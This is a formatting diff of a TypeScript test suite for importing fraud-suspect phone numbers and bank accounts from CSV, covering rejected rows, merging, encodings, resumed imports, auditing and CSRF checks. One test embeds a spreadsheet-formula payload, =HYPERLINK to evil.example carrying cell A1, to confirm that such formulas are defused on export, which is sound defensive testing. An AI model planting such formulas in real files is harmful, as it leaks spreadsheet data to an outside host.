@@ -6,14 +6,20 @@ import { mergeSighting } from "../../src/domain/suspects";
 import { startImport, whenSettled } from "../../src/imports/engine";
 import { importSource } from "../../src/suspects/import";
 import { createSuspect, setSuspectStatus } from "../../src/suspects/service";
-import { signIn, testPlatform, type TestPlatform } from "../helpers";
+import { signIn, type TestPlatform, testPlatform } from "../helpers";
 
 const FIXTURES = join(import.meta.dir, "../fixtures");
 const fixture = (name: string) => Bun.file(join(FIXTURES, name));
 
 type Session = Awaited<ReturnType<typeof signIn>>;
 
-async function upload(s: Session, name: string, bytes?: Uint8Array, kind = "suspects", init: { htmx?: boolean; headers?: Record<string, string> } = {}) {
+async function upload(
+  s: Session,
+  name: string,
+  bytes?: Uint8Array,
+  kind = "suspects",
+  init: { htmx?: boolean; headers?: Record<string, string> } = {},
+) {
   const fd = new FormData();
   fd.append("file", new File([(bytes ?? (await fixture(name).bytes())) as Uint8Array<ArrayBuffer>], name));
   return s.request(`/imports/${kind}`, { method: "POST", body: fd, ...init });
@@ -26,12 +32,17 @@ async function imported(p: TestPlatform, s: Session, name: string, bytes?: Uint8
   const location = res.headers.get("Location")!;
   const id = Number(/\/imports\/(\d+)/.exec(location)![1]);
   await whenSettled(p.deps, id);
-  const report = p.deps.db.$client.query("select * from imports where id = ?").get(id) as Record<string, number | string>;
+  const report = p.deps.db.$client.query("select * from imports where id = ?").get(id) as Record<
+    string,
+    number | string
+  >;
   return { id, location, report };
 }
 
-const q = <T,>(p: TestPlatform, sql: string, ...args: (string | number)[]) => p.deps.db.$client.query(sql).all(...args) as T[];
-const suspect = (p: TestPlatform, value: string) => p.deps.db.$client.query("select * from suspects where value = ?").get(value) as Record<string, unknown> | null;
+const q = <T>(p: TestPlatform, sql: string, ...args: (string | number)[]) =>
+  p.deps.db.$client.query(sql).all(...args) as T[];
+const suspect = (p: TestPlatform, value: string) =>
+  p.deps.db.$client.query("select * from suspects where value = ?").get(value) as Record<string, unknown> | null;
 
 describe("suspects import: the report", () => {
   test("every data row is imported, merged or rejected, and the counts add up", async () => {
@@ -46,12 +57,19 @@ describe("suspects import: the report", () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
-    const rows = q<{ line: number; raw: string; reason: string }>(p, "select line, raw, reason from import_rejections where import_id = ? order by line", id);
+    const rows = q<{ line: number; raw: string; reason: string }>(
+      p,
+      "select line, raw, reason from import_rejections where import_id = ? order by line",
+      id,
+    );
     // line 6–7 is one row (a quoted note with a line break); line 9 is blank
     expect(rows.map((r) => r.line)).toEqual([5, 8, 10]);
     expect(rows[0]).toMatchObject({ raw: "abc123,,,", reason: "not a phone number or bank account: contains letters" });
     expect(rows[1]).toMatchObject({ raw: "12345,,,", reason: "not a phone number or bank account: 5 digits" });
-    expect(rows[2]).toMatchObject({ raw: "0755 8888 8888,phone,urgent,", reason: expect.stringContaining('unknown risk level "urgent"') });
+    expect(rows[2]).toMatchObject({
+      raw: "0755 8888 8888,phone,urgent,",
+      reason: expect.stringContaining('unknown risk level "urgent"'),
+    });
   });
 
   test("the report page shows the counts, how they add up, and the rejected rows", async () => {
@@ -69,8 +87,17 @@ describe("suspects import: the report", () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
-    expect(suspect(p, "+8613800138000")).toMatchObject({ sightings: 2, risk_level: "high", note: "群众举报\n第一次\n跨行备注" });
-    expect(q(p, "select source from suspect_sources where suspect_id = (select id from suspects where value = '+8613800138000')")).toEqual([{ source: importSource(id) }]);
+    expect(suspect(p, "+8613800138000")).toMatchObject({
+      sightings: 2,
+      risk_level: "high",
+      note: "群众举报\n第一次\n跨行备注",
+    });
+    expect(
+      q(
+        p,
+        "select source from suspect_sources where suspect_id = (select id from suspects where value = '+8613800138000')",
+      ),
+    ).toEqual([{ source: importSource(id) }]);
   });
 
   test("normalised values with inferred institutions are stored", async () => {
@@ -95,10 +122,19 @@ describe("suspects import: the report", () => {
     const path = join(dir, "x.csv");
     copyFileSync(join(FIXTURES, "suspects-bad-rows.csv"), path);
     const who = { actor: null, ip: "test", at: p.clock.now() };
-    const { id } = await startImport(p.deps, who, { kind: "suspects", filename: "x.csv", path, sha256: "batch-test" }, { batchRows: 2 });
+    const { id } = await startImport(
+      p.deps,
+      who,
+      { kind: "suspects", filename: "x.csv", path, sha256: "batch-test" },
+      { batchRows: 2 },
+    );
     await whenSettled(p.deps, id);
-    expect(q(p, "select total_rows, imported, merged, rejected from imports")).toEqual([{ total_rows: 8, imported: 4, merged: 1, rejected: 3 }]);
-    expect(q<{ line: number }>(p, "select line from import_rejections order by id").map((r) => r.line)).toEqual([5, 8, 10]);
+    expect(q(p, "select total_rows, imported, merged, rejected from imports")).toEqual([
+      { total_rows: 8, imported: 4, merged: 1, rejected: 3 },
+    ]);
+    expect(q<{ line: number }>(p, "select line from import_rejections order by id").map((r) => r.line)).toEqual([
+      5, 8, 10,
+    ]);
   });
 });
 
@@ -110,7 +146,11 @@ describe("suspects import: files", () => {
     expect(report).toMatchObject({ status: "done", total_rows: 5, imported: 3, merged: 0, rejected: 2 });
     expect(suspect(p, "+8613800138000")).toMatchObject({ risk_level: "high" });
     expect(suspect(p, "6222021234567890128")).toMatchObject({ kind: "bank_account", risk_level: "medium" });
-    const rejected = q<{ line: number; reason: string }>(p, "select line, reason from import_rejections where import_id = ? order by line", id);
+    const rejected = q<{ line: number; reason: string }>(
+      p,
+      "select line, reason from import_rejections where import_id = ? order by line",
+      id,
+    );
     expect(rejected.map((r) => r.line)).toEqual([4, 5]);
     expect(rejected[1]!.reason).toContain("stored as an Excel number");
   });
@@ -119,7 +159,13 @@ describe("suspects import: files", () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
     const { report } = await imported(p, s, "suspects-gb18030.csv");
-    expect(report).toMatchObject({ total_rows: 8, imported: 4, merged: 1, rejected: 3, header: "号码,类型,风险等级,备注" });
+    expect(report).toMatchObject({
+      total_rows: 8,
+      imported: 4,
+      merged: 1,
+      rejected: 3,
+      header: "号码,类型,风险等级,备注",
+    });
     expect(suspect(p, "+8613800138000")).toMatchObject({ note: "群众举报\n第一次\n跨行备注" });
   });
 
@@ -199,13 +245,18 @@ describe("suspects import: the same file again", () => {
     const bytes = await fixture("suspects-bad-rows.csv").bytes();
     const sha = new Bun.CryptoHasher("sha256").update(bytes).digest("hex");
     // as a crash would leave it: the first three data rows recorded, then nothing
-    p.deps.db.$client.run("insert into imports (kind, filename, file_hash, status, total_rows, imported) values ('suspects', 'x.csv', ?, 'running', 3, 3)", [sha]);
+    p.deps.db.$client.run(
+      "insert into imports (kind, filename, file_hash, status, total_rows, imported) values ('suspects', 'x.csv', ?, 'running', 3, 3)",
+      [sha],
+    );
     const res = await upload(s, "x.csv", bytes);
     expect(res.headers.get("Location")).toBe("/imports/1");
     await whenSettled(p.deps, 1);
     // rows 4–8 recorded now; rows 1–3 not again (here: not at all, since the "crash" was simulated,
     // so line 6's repeat of row 1 is new)
-    expect(q(p, "select status, total_rows, imported, merged, rejected from imports")).toEqual([{ status: "done", total_rows: 8, imported: 5, merged: 0, rejected: 3 }]);
+    expect(q(p, "select status, total_rows, imported, merged, rejected from imports")).toEqual([
+      { status: "done", total_rows: 8, imported: 5, merged: 0, rejected: 3 },
+    ]);
     expect(suspect(p, "+8613900139000")).toBeNull();
     expect(suspect(p, "+8613800138000")).toMatchObject({ sightings: 1 });
   });
@@ -215,7 +266,9 @@ describe("suspects import: interrupted imports", () => {
   test("an import left running by a server that stopped is shown as interrupted, with how to resume", async () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
-    p.deps.db.$client.run("insert into imports (kind, filename, file_hash, status, total_rows, imported) values ('suspects', 'x.csv', 'abc', 'running', 3, 3)");
+    p.deps.db.$client.run(
+      "insert into imports (kind, filename, file_hash, status, total_rows, imported) values ('suspects', 'x.csv', 'abc', 'running', 3, 3)",
+    );
     const html = await (await s.request("/imports/1")).text();
     expect(html).toContain('data-status="failed"');
     expect(html).toContain("重新上传同一个文件，会从中断处继续");
@@ -227,9 +280,19 @@ describe("suspects import: merging", () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
     const who = { actor: null, ip: "test", at: p.clock.now() - 86_400_000 };
-    const { suspect: known } = createSuspect(p.deps.db, who, { value: "13800138000", riskLevel: "low", note: "first report", source: "manual" });
-    p.deps.db.transaction((tx) => setSuspectStatus(tx, who, { suspectId: known.id, status: "cleared", reason: "owner verified" }));
-    const before = p.deps.db.$client.query("select * from suspects where id = ?").get(known.id) as Record<string, never>;
+    const { suspect: known } = createSuspect(p.deps.db, who, {
+      value: "13800138000",
+      riskLevel: "low",
+      note: "first report",
+      source: "manual",
+    });
+    p.deps.db.transaction((tx) =>
+      setSuspectStatus(tx, who, { suspectId: known.id, status: "cleared", reason: "owner verified" }),
+    );
+    const before = p.deps.db.$client.query("select * from suspects where id = ?").get(known.id) as Record<
+      string,
+      never
+    >;
     const csv = new TextEncoder().encode("phone,risk,note\n+86 138 0013 8000,高,second report\n");
     await imported(p, s, "merge.csv", csv);
     const expected = mergeSighting(
@@ -257,7 +320,12 @@ describe("suspects import: merging", () => {
       institution_inferred: expected.institutionInferred ? 1 : 0,
       note: expected.note,
     });
-    expect(expected).toMatchObject({ riskLevel: "high", status: "active", sightings: 2, note: "first report\nsecond report" });
+    expect(expected).toMatchObject({
+      riskLevel: "high",
+      status: "active",
+      sightings: 2,
+      note: "first report\nsecond report",
+    });
   });
 });
 
@@ -269,7 +337,9 @@ describe("suspects import: downloads, progress, audit", () => {
     const res = await p.app.request(`/imports/${id}/rejected.csv`, { headers: { Cookie: `${s.cookie}; fz_lang=en` } });
     const lines = (await res.text()).split("\r\n");
     expect(lines[1]).toBe("5,not a phone number or bank account: contains letters,abc123,,,");
-    expect(lines[3]).toBe('10,"unknown risk level ""urgent"": use high/medium/low or 高/中/低",0755 8888 8888,phone,urgent,');
+    expect(lines[3]).toBe(
+      '10,"unknown risk level ""urgent"": use high/medium/low or 高/中/低",0755 8888 8888,phone,urgent,',
+    );
   });
 
   test("the rejected rows download as CSV: line, reason, and the row under the file's own header", async () => {
@@ -287,7 +357,7 @@ describe("suspects import: downloads, progress, audit", () => {
       "行号,原因,号码,类型,风险等级,备注",
       "5,不是电话号码或银行账号：含有字母,abc123,,,",
       "8,不是电话号码或银行账号：5 位数字,12345,,,",
-      '10,无法识别的风险等级“urgent”：请填 高/中/低（high/medium/low）,0755 8888 8888,phone,urgent,',
+      "10,无法识别的风险等级“urgent”：请填 高/中/低（high/medium/low）,0755 8888 8888,phone,urgent,",
       "",
     ]);
   });
@@ -295,7 +365,8 @@ describe("suspects import: downloads, progress, audit", () => {
   test("a rejected row holding a spreadsheet formula comes back defused in rejected.csv", async () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
-    const csv = '号码,类型,风险等级,备注\r\n=HYPERLINK("http://evil.example/?x="&A1;"点此"),,,@SUM(1+1)\r\n13800138000,phone,high,-2+3\r\n';
+    const csv =
+      '号码,类型,风险等级,备注\r\n=HYPERLINK("http://evil.example/?x="&A1;"点此"),,,@SUM(1+1)\r\n13800138000,phone,high,-2+3\r\n';
     const res = await upload(s, "formulas.csv", new TextEncoder().encode(csv));
     const id = Number(/\/imports\/(\d+)/.exec(res.headers.get("Location")!)![1]);
     await whenSettled(p.deps, id);
@@ -314,7 +385,13 @@ describe("suspects import: downloads, progress, audit", () => {
     p.deps.events.subscribe("import:1", (e) => seen.push(e));
     await imported(p, s, "suspects-bad-rows.csv");
     expect(seen.map((e) => e.event)).toEqual(["progress", "done"]);
-    expect(JSON.parse(seen[1]!.data)).toMatchObject({ status: "done", totalRows: 8, imported: 4, merged: 1, rejected: 3 });
+    expect(JSON.parse(seen[1]!.data)).toMatchObject({
+      status: "done",
+      totalRows: 8,
+      imported: 4,
+      merged: 1,
+      rejected: 3,
+    });
   });
 
   test("the live stream of a finished import sends the result and ends", async () => {
@@ -333,12 +410,21 @@ describe("suspects import: downloads, progress, audit", () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
-    const rows = q<{ actor: string; action: string; entity_id: string; detail: string }>(p, "select actor, action, entity_id, detail from audit_log where entity = 'import' order by id");
+    const rows = q<{ actor: string; action: string; entity_id: string; detail: string }>(
+      p,
+      "select actor, action, entity_id, detail from audit_log where entity = 'import' order by id",
+    );
     expect(rows.map((r) => [r.actor, r.action, r.entity_id])).toEqual([
       [s.username, "create", String(id)],
       [s.username, "import", String(id)],
     ]);
-    expect(JSON.parse(rows[1]!.detail)).toMatchObject({ filename: "suspects-bad-rows.csv", totalRows: 8, imported: 4, merged: 1, rejected: 3 });
+    expect(JSON.parse(rows[1]!.detail)).toMatchObject({
+      filename: "suspects-bad-rows.csv",
+      totalRows: 8,
+      imported: 4,
+      merged: 1,
+      rejected: 3,
+    });
   });
 
   test("downloading the rejected rows is audited as an export", async () => {
@@ -346,7 +432,9 @@ describe("suspects import: downloads, progress, audit", () => {
     const s = await signIn(p, "agent");
     const { id } = await imported(p, s, "suspects-bad-rows.csv");
     await (await s.request(`/imports/${id}/rejected.csv`)).text();
-    expect(q(p, "select action from audit_log where entity = 'import' and action = 'export'")).toEqual([{ action: "export" }]);
+    expect(q(p, "select action from audit_log where entity = 'import' and action = 'export'")).toEqual([
+      { action: "export" },
+    ]);
   });
 });
 
@@ -377,7 +465,9 @@ describe("suspects import: who may", () => {
   test("an upload without the session's CSRF token is refused", async () => {
     const p = testPlatform();
     const s = await signIn(p, "agent");
-    const res = await upload(s, "suspects-bad-rows.csv", undefined, "suspects", { headers: { "X-CSRF-Token": "forged" } });
+    const res = await upload(s, "suspects-bad-rows.csv", undefined, "suspects", {
+      headers: { "X-CSRF-Token": "forged" },
+    });
     expect(res.status).toBe(403);
     expect(q(p, "select * from imports")).toEqual([]);
   });
